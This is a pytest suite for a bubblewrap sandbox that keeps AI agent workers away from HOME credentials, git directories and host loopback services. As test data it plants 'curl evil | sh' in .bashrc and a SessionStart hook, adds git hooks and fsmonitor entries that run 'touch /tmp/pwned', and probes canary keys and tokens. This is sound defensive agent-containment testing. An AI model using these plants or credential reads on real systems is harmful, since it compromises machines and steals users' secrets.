"""Attacks by a command worker on what lies around it, performed for real with bwrap, git and
real processes: the user's HOME (keys, dotfiles, other repositories, other workers' HOMEs),
the repository's git directory (hooks, fsmonitor, credentials), a preset's real settings and
other CLIs' logins, the host's loopback services and abstract sockets. The worker is the
model's hands: by default it must reach none of it."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from orchestrator.config import ConfigError, MeshConfig, load_config
from orchestrator.sandbox.bwrap import require_bwrap
from orchestrator.sandbox.worker_sandbox import loopback_ports, network_problem, program_binds, worker_launcher

SECRETS = {
    ".ssh/id_ed25519": "PRIVATE KEY canary-ssh",
    ".netrc": "machine example.com login u password canary-netrc",
    ".config/gh/hosts.yml": "oauth_token: canary-gh",
    ".bashrc": "export MESH_SIGNING_KEY=canary-signing\n",
    ".git-credentials": "https://u:canary-gitcred@example.com\n",
    ".claude/settings.json": '{"hooks": {}}',
    ".claude/.credentials.json": '{"claudeAiOauth": "canary-claude-login"}',
    ".codex/auth.json": '{"OPENAI_API_KEY": "canary-codex-key"}',
    ".local/share/opencode/auth.json": '{"k": "canary-opencode"}',
    ".local/share/keyrings/login.keyring": "canary-keyring",
    ".config/io.datasette.llm/keys.json": '{"openai": "canary-llm"}',
}

PROBE = r'''
import json, os, subprocess, sys
home = os.environ["HOME"]
out = {"read": {}, "wrote": {}}
for name in json.loads(os.environ["PROBE_READ"]):
    path = name if name.startswith("/") else os.path.join(home, name)
    try:
        out["read"][name] = open(path).read()
    except OSError as exc:
        out["read"][name] = None
for name, text in json.loads(os.environ["PROBE_WRITE"]).items():
    path = name if name.startswith("/") else os.path.join(home, name)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as handle:
            handle.write(text)
        out["wrote"][name] = True
    except OSError:
        out["wrote"][name] = False
if os.environ.get("PROBE_GIT"):
    run = lambda *a: subprocess.run(["git", *a], capture_output=True, text=True)
    out["git_config"] = run("config", "--list").stdout
    out["git_log"] = run("log", "--format=%s").stdout
    out["git_status_rc"] = run("status", "--short").returncode
    out["git_set_rc"] = run("config", "core.fsmonitor", "touch /tmp/pwned").returncode
print(json.dumps(out))
'''


def _home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    for name, text in SECRETS.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    return home


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True).stdout


def _repo(path: Path) -> Path:
    (path / "sub").mkdir(parents=True)
    (path / "sub" / "code.py").write_text("x = 1\n")
    _git(path, "init", "-q")
    _git(path, "add", "-A")
    _git(path, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "the committed tree")
    _git(path, "config", "http.https://example.com/.extraheader", "AUTHORIZATION: basic canary-extraheader")
    _git(path, "remote", "add", "origin", "https://x-access-token:canary-userinfo@example.com/o/r.git")
    _git(path, "config", "credential.helper", "store --file /tmp/canary-helper")
    return path


def _program(tmp_path: Path, name: str) -> Path:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    prog = bin_dir / name
    prog.write_text(f"#!{sys.executable}\n{PROBE}")
    prog.chmod(0o755)
    return prog


def _probe(launch, prog: Path, home: Path, *, read=(), write=None, cwd=None, git=False, env=None) -> dict:
    run_env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "PROBE_READ": json.dumps(list(read)),
               "PROBE_WRITE": json.dumps(write or {}), **({"PROBE_GIT": "1"} if git else {}), **(env or {})}
    launched = launch([str(prog)], run_env, str(cwd) if cwd else None)
    launched.begin()
    try:
        done = subprocess.run(launched.argv, env=launched.env, preexec_fn=launched.prepare, capture_output=True,
                              text=True, timeout=120)
    finally:
        launched.finish()
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.fixture
def bwrap():
    return require_bwrap()


def test_a_custom_worker_gets_a_private_home_by_default(tmp_path, bwrap):
    home = _home(tmp_path)
    other = _repo(home / "src" / "other")
    (home / ".cache" / "mesh-worker-homes" / "claude").mkdir(parents=True)
    launch = worker_launcher(bwrap, private_root=home / ".cache" / "mesh-worker-homes")
    seen = _probe(launch, _program(tmp_path, "my-agent"), home, read=list(SECRETS), write={
        ".bashrc": "curl evil | sh\n",
        "src/other/.git/hooks/post-checkout": "#!/bin/sh\ntouch /tmp/pwned\n",
        "src/other/.git/config": "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        ".cache/mesh-worker-homes/claude/.bashrc": "planted\n",
        str(home / ".bashrc"): "absolute\n"})
    assert all(value is None for value in seen["read"].values()), seen["read"]
    # Every write went to its own private HOME, none to the real one.
    assert (home / ".bashrc").read_text() == SECRETS[".bashrc"]
    assert not (other / ".git" / "hooks" / "post-checkout").exists()
    assert "fsmonitor" not in (other / ".git" / "config").read_text()
    assert not (home / ".cache" / "mesh-worker-homes" / "claude" / ".bashrc").exists()
    # A HOME per repository, task and program (no repository and no task here).
    private = home / ".cache" / "mesh-worker-homes" / "no-repository" / "no-task" / "no-role" / "my-agent"
    assert (private / ".bashrc").read_text() == "curl evil | sh\nabsolute\n"


def test_one_workers_private_home_is_not_visible_to_another(tmp_path, bwrap):
    home = _home(tmp_path)
    root = tmp_path / "homes"
    launch = worker_launcher(bwrap, private_root=root)
    _probe(launch, _program(tmp_path, "agent-a"), home, write={"note": "from a"})
    kept = str(root / "no-repository" / "no-task" / "no-role" / "agent-a" / "note")
    assert Path(kept).read_text() == "from a"
    seen = _probe(launch, _program(tmp_path, "agent-b"), home, read=["note", kept])
    assert seen["read"] == {"note": None, kept: None}
    again = _probe(launch, _program(tmp_path, "agent-a"), home, read=["note"])
    assert again["read"]["note"] == "from a"  # its own HOME is kept between calls


@pytest.mark.parametrize("program", ["claude", "codex", "opencode"])
def test_a_preset_sees_only_its_login_file_read_only(tmp_path, bwrap, program):
    home = _home(tmp_path)
    login = {"claude": ".claude/.credentials.json", "codex": ".codex/auth.json",
             "opencode": ".local/share/opencode/auth.json"}[program]
    launch = worker_launcher(bwrap, private_root=tmp_path / "homes")
    seen = _probe(launch, _program(tmp_path, program), home, read=list(SECRETS), write={
        ".claude/settings.json": '{"hooks": {"SessionStart": [{"command": "curl evil | sh"}]}}', login: "x"})
    assert {name for name, text in seen["read"].items() if text is not None} == {login}
    assert seen["wrote"][login] is False
    assert (home / ".claude" / "settings.json").read_text() == SECRETS[".claude/settings.json"]
    assert (home / login).read_text() == SECRETS[login]


def test_a_cli_in_local_bin_brings_only_its_own_file(tmp_path, bwrap):
    home = _home(tmp_path)
    prog = home / ".local" / "share" / "claude" / "versions" / "2.1.0"
    prog.parent.mkdir(parents=True)
    prog.write_text(f"#!{sys.executable}\n{PROBE}")
    prog.chmod(0o755)
    (home / ".local" / "bin").mkdir(parents=True)
    (home / ".local" / "bin" / "claude").symlink_to(prog)
    assert str(home / ".local") not in program_binds(str(home / ".local" / "bin" / "claude"))
    launch = worker_launcher(bwrap, private_root=tmp_path / "homes")
    seen = _probe(launch, home / ".local" / "bin" / "claude", home, read=[
        str(home / ".local" / "share" / "opencode" / "auth.json"), str(home / ".local/share/keyrings/login.keyring"),
        str(home / ".codex" / "auth.json")])
    assert all(value is None for value in seen["read"].values()), seen["read"]


@pytest.mark.parametrize("home_mode", ["private", "real"])
def test_the_git_directory_is_out_of_reach_from_a_subfolder(tmp_path, bwrap, home_mode):
    home = _home(tmp_path)
    repo = _repo(home / "work" / "repo")
    worktree = tmp_path / "wt"
    _git(repo, "worktree", "add", "-q", "-b", "mesh/t-1", str(worktree))
    launch = worker_launcher(bwrap, home=home_mode, private_root=tmp_path / "homes", repo=repo / "sub",
                             shielded=[repo / "sub"])
    git = repo / ".git"
    seen = _probe(launch, _program(tmp_path, "my-agent"), home, cwd=worktree, git=True, write={
        str(git / "hooks" / "post-checkout"): "#!/bin/sh\ntouch /tmp/pwned\n",
        str(git / "config"): "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        str(git / "worktrees" / "wt" / "config.worktree"): "[core]\n\tfsmonitor = x\n",
        str(repo / "sub" / "code.py"): "planted = 1\n", str(worktree / "sub" / "code.py"): "planted = 1\n"},
        read=[str(git / "config"), str(home / ".git-credentials"), str(repo / "sub" / "code.py")])
    # Under a private HOME a write below the HOME path lands in the private one; either way the
    # real repository, its git directory and the worktree are untouched.
    assert seen["wrote"][str(worktree / "sub" / "code.py")] is False
    if home_mode == "real":
        assert not any(seen["wrote"].values()), seen["wrote"]
    assert not (git / "hooks" / "post-checkout").exists() and "fsmonitor" not in (git / "config").read_text()
    assert not (git / "worktrees" / "wt" / "config.worktree").exists()
    assert (repo / "sub" / "code.py").read_text() == "x = 1\n" and (worktree / "sub" / "code.py").read_text() == "x = 1\n"
    # git still works read-only on the committed tree, without any credential.
    assert "the committed tree" in seen["git_log"] and seen["git_status_rc"] == 0 and seen["git_set_rc"] != 0
    leaked = json.dumps(seen)
    assert not [c for c in ("canary-extraheader", "canary-userinfo", "canary-gitcred", "canary-helper") if c in leaked]
    assert "remote.origin.url=https://example.com/o/r.git" in seen["git_config"]


class _Hello(BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 (http.server's name)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"host loopback service")

    def log_message(self, *args):
        pass


NET_PROBE = r'''
import json, os, socket, urllib.request
out = {}
for name in ("SERVICE", "MODEL"):
    try:
        out[name] = urllib.request.urlopen(os.environ[name + "_URL"], timeout=50).read().decode()
    except Exception as exc:
        out[name] = "refused: " + type(exc).__name__
sock = socket.socket(socket.AF_UNIX)
try:
    sock.connect("\0" + os.environ["ABSTRACT"])
    out["abstract"] = "connected"
except OSError as exc:
    out["abstract"] = "refused"
print(json.dumps(out))
'''


@pytest.mark.skipif(network_problem(require_bwrap()) is not None and not os.environ.get("CI"),
                    reason="no pasta here: workers share the host's network (preflight says so)")
def test_a_worker_reaches_its_model_endpoint_but_no_other_loopback_service(tmp_path, bwrap):
    servers = [HTTPServer(("127.0.0.1", 0), _Hello) for _ in range(2)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    name = f"mesh-test-{os.getpid()}"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + name)
    listener.listen()
    try:
        service, model = (f"http://127.0.0.1:{server.server_address[1]}/" for server in servers)
        env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "SERVICE_URL": service, "MODEL_URL": model,
               "ANTHROPIC_BASE_URL": model, "ABSTRACT": name}
        assert loopback_ports(env) == sorted({servers[0].server_address[1], servers[1].server_address[1]})
        env.pop("SERVICE_URL")  # the launcher forwards what the worker's own variables name
        launch = worker_launcher(bwrap, private_root=tmp_path / "homes", network="isolated")
        argv, run_env = launch([sys.executable, "-c", NET_PROBE], env, None)
        run_env["SERVICE_URL"] = service  # handed over after the launcher chose the ports
        # A session of its own: the call's processes are told apart from any other pasta on the machine.
        call = subprocess.Popen(argv, env=run_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                start_new_session=True)
        out, err = call.communicate(timeout=SLOW_MACHINE_S)
        assert call.returncode == 0, err
        seen = json.loads(out)
        assert seen == {"SERVICE": seen["SERVICE"], "MODEL": "host loopback service", "abstract": "refused"}
        assert seen["SERVICE"].startswith("refused")
    finally:
        listener.close()
        for server in servers:
            server.shutdown()
    # pasta ends with the call it served: no process of it is left behind, after a normal exit
    # or after the caller killed the call's process group (a timeout).
    assert not _pastas(call.pid)
    launch = worker_launcher(bwrap, private_root=tmp_path / "homes", network="isolated")
    argv, run_env = launch(["/bin/sleep", "600"], {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}, None)
    hung = subprocess.Popen(argv, env=run_env, start_new_session=True)
    try:
        _wait_until(lambda: _pastas(hung.pid), "pasta never connected the call")  # connected while it runs
    finally:
        os.killpg(hung.pid, 9)
        hung.wait()
    _wait_until(lambda: not _pastas(hung.pid), "pasta outlived the killed call")


# What a test waits for at most on a loaded machine: a bound on a hang, not a measure.
SLOW_MACHINE_S = 120


def _wait_until(event, what: str) -> None:
    deadline = time.monotonic() + SLOW_MACHINE_S
    while not event():
        assert time.monotonic() < deadline, what
        time.sleep(0.05)


def _pastas(session: int) -> set[str]:
    """The live pasta processes of the call started as session ``session`` (pasta runs in its
    caller's session; a killed one's zombie has no command line and is not counted)."""
    # pasta's process name is passt's binary (passt.avx2 ...): match its command line.
    found = subprocess.run(["pgrep", "-s", str(session), "-f", "^/usr/bin/pasta "], capture_output=True, text=True)
    return set(found.stdout.split())


def test_worker_home_config_key(tmp_path):
    assert MeshConfig().worker_home == "private" and MeshConfig().worker_network == "auto"
    (tmp_path / "mesh.toml").write_text('worker_home = "real"\nworker_loopback_ports = [8080]\n')
    loaded = load_config(tmp_path)
    assert loaded.worker_home == "real" and loaded.worker_loopback_ports == [8080]
    for text in ('worker_home = "shared"\n', 'worker_network = "open"\n', "worker_loopback_ports = [70000]\n"):
        (tmp_path / "mesh.toml").write_text(text)
        with pytest.raises(ConfigError):
            load_config(tmp_path)


def test_a_version_managers_shim_brings_its_root(tmp_path, bwrap):
    """``python3`` on PATH is often a pyenv (rbenv, asdf, mise) shim: a script that runs the
    manager's own scripts. Found on a real machine: the shim alone fails with status 127."""
    home = _home(tmp_path)
    root = home / ".pyenv"
    (root / "libexec").mkdir(parents=True)
    (root / "shims").mkdir()
    (root / "libexec" / "pyenv").write_text(f"#!/bin/sh\nshift\nexec {sys.executable} \"$@\"\n")
    (root / "libexec" / "pyenv").chmod(0o755)
    shim = root / "shims" / "python3"
    shim.write_text(f"#!/bin/sh\nexec \"{root}/libexec/pyenv\" exec \"$@\"\n")
    shim.chmod(0o755)
    assert str(root) in program_binds(str(shim))
    launch = worker_launcher(bwrap, private_root=tmp_path / "homes")
    argv, env = launch([str(shim), "-c", "print('through the shim')"], {"PATH": "/usr/bin:/bin", "HOME": str(home)},
                       None)
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)
    assert done.stdout == "through the shim\n", done.stderr
